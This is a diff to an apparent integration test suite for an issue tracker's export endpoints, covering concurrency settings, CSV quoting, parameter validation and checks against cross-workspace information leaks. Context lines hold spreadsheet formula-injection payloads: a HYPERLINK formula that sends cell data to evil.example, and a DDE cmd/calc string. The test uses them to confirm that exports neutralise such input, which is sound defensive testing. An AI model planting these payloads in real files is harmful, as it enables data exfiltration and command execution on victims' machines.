@@ -56,7 +56,11 @@ describe.each<Mode>(['all-in-one', 'distributed'])('exports (%s)', (mode) => {
     (await call('GET', `/api/admin/audit-events?workspaceId=${workspaceId}&type=${type}&limit=200`)).body.data ?? [];
 
   beforeAll(async () => {
-    cluster = await startCluster(mode, { env: { EXPORT_RETENTION_SECONDS: String(RETENTION_SECONDS) } });
+    cluster = await startCluster(mode, {
+      // The quota race below runs 25 exports of one workspace at once; the per-workspace
+      // concurrency cap (default 2, tested in exports-core.test.ts) would refuse most of them.
+      env: { EXPORT_RETENTION_SECONDS: String(RETENTION_SECONDS), EXPORT_MAX_CONCURRENT_PER_WORKSPACE: '50' },
+    });
     admin = await login(cluster.baseUrl, ADMIN_EMAIL, cluster.adminPassword);
     ws = await workspaceOn('enterprise');
     projectId = await newProject(ws.id, 'Exported');
@@ -149,6 +153,8 @@ describe.each<Mode>(['all-in-one', 'distributed'])('exports (%s)', (mode) => {
     expect(formula[col('title')]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`);
     expect(formula[col('description')]).toBe(`'+cmd|' /C calc'!A0 and ${secretQ}, "quoted", with a comma\nand a line break`);
     expect(formula[col('labels')]).toBe('feature-x;infra');
+    // List cells are always quoted, so a spreadsheet splitting on ';' keeps them one cell.
+    expect(text).toContain('"feature-x;infra"');
     expect(formula[col('estimate')]).toBe('5');
     expect(rows.find((r) => r[col('title')]?.includes('@mention'))![col('title')]).toBe("'@mention starts a formula too");
     for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
@@ -195,6 +201,10 @@ describe.each<Mode>(['all-in-one', 'distributed'])('exports (%s)', (mode) => {
     const filtered = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=backup&status=ready`);
     expect(filtered.status).toBe(400);
     expect(filtered.body.error.code).toBe('invalid-input');
+    // Nor an order (it is always in creation order).
+    const sorted = await call('GET', `/api/issues/export?workspaceId=${ws.id}&format=backup&sort=title`);
+    expect(sorted.status).toBe(400);
+    expect(sorted.body.error).toMatchObject({ code: 'invalid-input', field: 'format' });
   });
 
   it('exports: a backup re-imports through the import preview and commit', async () => {
@@ -409,6 +419,15 @@ describe.each<Mode>(['all-in-one', 'distributed'])('exports (%s)', (mode) => {
     expect((await request(cluster.baseUrl, 'GET', path, { token: otherToken.token })).status).toBe(404);
     expect((await request(cluster.baseUrl, 'GET', `/api/issues/export?workspaceId=${target.id}&format=json`, { token: otherToken.token })).status).toBe(404);
     expect((await request(cluster.baseUrl, 'GET', `/api/issues/export/history?workspaceSlug=${target.slug}`, { token: otherToken.token })).status).toBe(404);
+    // Naming its own workspace by id and another by slug tells it nothing either: the answer is
+    // that of a slug nobody has (not a 400 "they differ", which would confirm the slug exists).
+    const unknownSlug = `no-such-workspace-${randomBytes(3).toString('hex')}`;
+    for (const base of ['/api/issues/export?format=json&', '/api/issues/export/history?']) {
+      const known = await request(cluster.baseUrl, 'GET', `${base}workspaceId=${other.id}&workspaceSlug=${target.slug}`, { token: otherToken.token });
+      const unknown = await request(cluster.baseUrl, 'GET', `${base}workspaceId=${other.id}&workspaceSlug=${unknownSlug}`, { token: otherToken.token });
+      expect(known.status, base).toBe(404);
+      expect([known.status, known.body.error.code]).toEqual([unknown.status, unknown.body.error.code]);
+    }
     const own = await request(cluster.baseUrl, 'GET', `/api/issues/export/history?workspaceId=${target.id}`, { token: adminToken.token });
     expect(own.status).toBe(200);
     expect(own.body.data.entries).toHaveLength(2);
